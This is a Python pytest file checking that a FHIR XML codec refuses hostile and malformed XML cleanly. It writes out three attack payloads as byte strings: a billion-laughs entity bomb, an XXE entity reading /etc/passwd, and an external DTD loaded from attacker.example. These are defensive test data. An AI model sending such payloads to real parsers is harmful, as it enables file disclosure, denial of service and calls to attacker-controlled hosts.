"""Hostile and broken FHIR XML is refused cleanly (through hub.core.xml_safety.parse_xml), never a crash."""

from __future__ import annotations

import copy
from pathlib import Path

import pytest

from hub.core.errors import InvalidInputError, NotSupportedError, UnsafeXmlError
from profiles.canonical import CanonicalRegistry
from profiles.fhir_xml import FHIR_NS, FhirXmlCodec, StructureDefinitionTable
from profiles.packages import PackageLoader
from tests.conftest import testdata_path as data_path

pytestmark = pytest.mark.needs_testdata

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<Patient xmlns="http://hl7.org/fhir"><id value="&lol3;"/></Patient>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><id value="&xxe;"/></Patient>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">
<Patient xmlns="http://hl7.org/fhir"/>"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "external-dtd"]
)
def test_doctypes_and_entities_are_refused(codec: FhirXmlCodec, data: bytes) -> None:
    with pytest.raises(UnsafeXmlError) as caught:
        codec.read(data)
    assert "root:" not in str(caught.value)  # nothing from /etc/passwd leaks into the message


def test_deep_nesting_is_refused(codec: FhirXmlCodec) -> None:
    depth = 300
    body = '<extension url="http://e">' * depth + "</extension>" * depth
    with pytest.raises(UnsafeXmlError):
        codec.read(f'<Patient xmlns="{FHIR_NS}">{body}</Patient>'.encode())


def test_size_limit_applies(core_types: StructureDefinitionTable) -> None:
    small = FhirXmlCodec(core_types, max_bytes=200)
    with pytest.raises(UnsafeXmlError):
        small.read(f'<Patient xmlns="{FHIR_NS}">'.encode() + b"<active value='true'/>" * 20 + b"</Patient>")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<Patient",
        b'<Patient xmlns="http://hl7.org/fhir"><name></Patient>',
        b"\xff\xfe<\x00P\x00",
        b"<a>\xc3\x28</a>",
    ],
    ids=["empty", "truncated", "mismatched", "utf16-garbage", "invalid-utf8"],
)
def test_malformed_xml_is_invalid_input(codec: FhirXmlCodec, data: bytes) -> None:
    with pytest.raises(InvalidInputError) as caught:
        codec.read(data)
    assert caught.value.issues


def test_hundred_thousand_element_array_is_read(codec: FhirXmlCodec) -> None:
    body = '<name><given value="x"/></name>' * 100_000
    patient = codec.parse(f'<Patient xmlns="{FHIR_NS}">{body}</Patient>'.encode())
    assert len(patient["name"]) == 100_000


def test_narrative_with_a_doctype_is_refused_on_output(codec: FhirXmlCodec) -> None:
    div = '<!DOCTYPE div [<!ENTITY e "x">]><div xmlns="http://www.w3.org/1999/xhtml">&e;</div>'
    with pytest.raises(InvalidInputError) as caught:
        codec.serialise({"resourceType": "Patient", "text": {"status": "generated", "div": div}})
    assert caught.value.issues[0].message_id == "FHIR_XML_BAD_XHTML"


def test_huge_integer_text_is_a_value_issue_not_a_crash(codec: FhirXmlCodec) -> None:
    result = codec.read(
        f'<Patient xmlns="{FHIR_NS}"><multipleBirthInteger value="{"9" * 5000}"/></Patient>'.encode()
    )
    assert [i.message_id for i in result.issues] == ["FHIR_XML_BAD_VALUE"]


def test_without_base_definitions_xml_is_not_supported() -> None:
    empty = FhirXmlCodec(StructureDefinitionTable([]))
    with pytest.raises(NotSupportedError):
        empty.read(f'<Patient xmlns="{FHIR_NS}"/>'.encode())
    with pytest.raises(NotSupportedError):
        empty.serialise({"resourceType": "Patient"})


def test_definitions_changed_at_run_time_are_picked_up() -> None:
    loader = PackageLoader(CanonicalRegistry())
    loader.load(Path(data_path("fhir", "packages", "hl7.fhir.r4.core-4.0.1.tgz")))
    registry = loader.registry
    codec = FhirXmlCodec(registry)
    data = f'<Patient xmlns="{FHIR_NS}"><active value="true"/></Patient>'.encode()
    assert codec.read(data).ok
    patient_sd = registry.structure_definition_for_type("Patient")
    assert patient_sd is not None
    changed = copy.deepcopy(patient_sd)
    changed["version"] = "4.0.2"
    changed["snapshot"]["element"] = [
        e for e in changed["snapshot"]["element"] if e["path"] != "Patient.active"
    ]
    registry.add(changed, source="test")
    assert [i.message_id for i in codec.read(data).issues] == ["FHIR_XML_UNKNOWN_ELEMENT"]
